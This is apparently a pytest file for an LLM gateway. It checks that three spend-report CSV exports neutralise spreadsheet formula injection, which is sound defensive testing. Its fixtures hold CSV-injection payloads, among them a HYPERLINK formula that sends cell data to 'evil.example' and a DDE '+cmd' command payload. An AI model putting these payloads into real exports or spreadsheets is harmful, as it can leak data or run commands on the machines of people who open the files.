"""Item 5: spend CSVs never hand a spreadsheet a formula.

Names in a spend report come from admins and clients: a team, a key's alias, a client's ``user``,
a model alias, a tag value. A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is run as a formula by Excel, LibreOffice and Google Sheets (``=HYPERLINK(...)`` exfiltrates,
``+cmd|...`` ran commands through DDE). All three CSV outputs (``/ui/api/spend.csv``,
``/admin/spend/report?format=csv`` and ``llmgate report spend --format csv``) write every text
cell through one function: such a cell gets a leading ``'`` and is quoted (OWASP's advice). The
metric cells stay plain numbers, so sums in the spreadsheet still work.

Traffic through ``llmgate serve`` with the official ``openai`` SDK, then the three outputs.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import httpx
import openai
import pytest

from llmgate.reports.spend import SpendLine, SpendReport, to_csv
from support.configs import MASTER_KEY
from support.served import ServedGateway

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TEAM = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ALIAS = "+cmd|' /C calc'!A0"
USERS = ["-2+3", "\r=2+2"]  # a client's own ``user`` field
TAG = "@SUM(1+1)"
MODEL = "\t=1+1"
HOSTILE = {TEAM, ALIAS, TAG, MODEL, *USERS}
GROUPS = "team,key,user,model,tag:cost_centre"
AUTH = {"Authorization": f"Bearer {MASTER_KEY}"}


@dataclass
class Spent:
    served: ServedGateway
    requests: int


@pytest.fixture(scope="module")
def spent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Spent]:
    priced = {"input_cost_per_token": "0.000002", "output_cost_per_token": "0.000006"}
    config = {
        "model_list": [
            {"model_name": MODEL, "litellm_params": {"model": "mock/echo", **priced}},
        ],
        "general_settings": {"master_key": MASTER_KEY},
    }
    served = ServedGateway(config, tmp_path_factory.mktemp("csv")).start()
    try:
        with httpx.Client(base_url=served.url, headers=AUTH, timeout=60) as admin:
            assert admin.post("/admin/teams", json={"alias": TEAM}).status_code == 201
            made = admin.post(
                "/admin/keys", json={"alias": ALIAS, "team": TEAM, "tags": {"cost_centre": TAG}}
            )
            assert made.status_code == 201, made.text
            key = made.json()["key"]
        ids = []
        with openai.OpenAI(base_url=served.url + "/v1", api_key=key, max_retries=0, timeout=30) as client:
            for user in USERS:
                raw = client.chat.completions.with_raw_response.create(
                    model=MODEL, messages=[{"role": "user", "content": "hello there"}], user=user
                )
                ids.append(raw.headers["x-llmgate-request-id"])
        served.rows(ids)
        yield Spent(served, len(ids))
    finally:
        served.stop()


def check(text: str, groups: list[str]) -> tuple[list[dict[str, str]], set[str]]:
    """The rows, and the names found neutralised; every text cell is safe, metrics are plain numbers."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows and set(groups) <= set(rows[0])
    neutralised: set[str] = set()
    for row in rows:
        for name in groups:
            cell = row[name]
            assert not cell.startswith(TRIGGERS), f"{name}: {cell!r} would run as a formula"
            if cell.startswith("'"):
                neutralised.add(cell[1:])
                assert '"' + cell.replace('"', '""') + '"' in text  # and quoted in the file itself
        metrics = [row["requests"], row["input_tokens"], row["output_tokens"], row["cost_usd"]]
        outcomes = [row["succeeded"], row["failed"], row["rejected"]]
        cache = [row["saved_usd"], row["hit_rate"]]
        assert "," + ",".join(metrics + outcomes + cache) + "\r\n" in text  # unquoted, unprefixed
        assert all(int(m) >= 0 for m in metrics[:3] + outcomes) and Decimal(metrics[3]) >= 0
        assert Decimal(cache[0]) >= 0 and 0 <= float(cache[1]) <= 1
    return rows, neutralised


def test_admin_api_csv(spent: Spent) -> None:
    response = httpx.get(
        spent.served.url + "/admin/spend/report",
        params={"since": "1d", "group_by": GROUPS, "format": "csv"},
        headers=AUTH,
        timeout=60,
    )
    assert response.status_code == 200, response.text
    rows, neutralised = check(response.text, ["team", "key", "user", "model", "tag:cost_centre"])
    assert neutralised == HOSTILE  # every dimension carried its hostile name, neutralised
    assert rows[-1]["team"] == "TOTAL" and rows[-1]["requests"] == str(spent.requests)


@pytest.mark.parametrize(
    ("group", "names"),
    [("team", {TEAM}), ("key", {ALIAS}), ("model", {MODEL}), ("tag:cost_centre", {TAG})],
)
def test_dashboard_csv(spent: Spent, group: str, names: set[str]) -> None:
    response = httpx.get(
        spent.served.url + "/ui/api/spend.csv",
        params={"since": "1d", "group_by": group},
        headers=AUTH,
        timeout=60,
    )
    assert response.status_code == 200, response.text
    assert check(response.text, [group])[1] == names


def test_cli_csv(spent: Spent) -> None:
    command = [sys.executable, "-m", "llmgate.cli.main", "report", "spend"]
    command += ["--config", str(spent.served.config_path), "--since", "1d", "--group-by", GROUPS]
    # bytes: text mode would turn the CSV's CRLF (and a CR inside a cell) into LF
    result = subprocess.run([*command, "--format", "csv"], capture_output=True, timeout=60, check=False)
    assert result.returncode == 0, result.stderr.decode()
    rows, neutralised = check(result.stdout.decode(), ["team", "key", "user", "model", "tag:cost_centre"])
    assert neutralised == HOSTILE and len(rows) == len(USERS) + 1


def test_numbers_stay_numbers() -> None:
    """A label that looks like arithmetic is text and is neutralised; a negative cost is a number."""
    line = SpendLine(("-2+3",), 1, 2, 3, Decimal("-0.5"))
    moment = datetime(2026, 11, 1, tzinfo=UTC)
    report = SpendReport(moment, None, "UTC", ("team",), [line], line, {})
    lines = to_csv(report).splitlines()
    assert lines[1] == '"\'-2+3",1,2,3,-0.5000000000,0,0,0,0.0000000000,0.0'
    assert lines[2] == "TOTAL,1,2,3,-0.5000000000,0,0,0,0.0000000000,0.0"
    parsed: list[Any] = list(csv.reader(io.StringIO(to_csv(report), newline="")))
    assert Decimal(parsed[1][4]) == Decimal("-0.5")
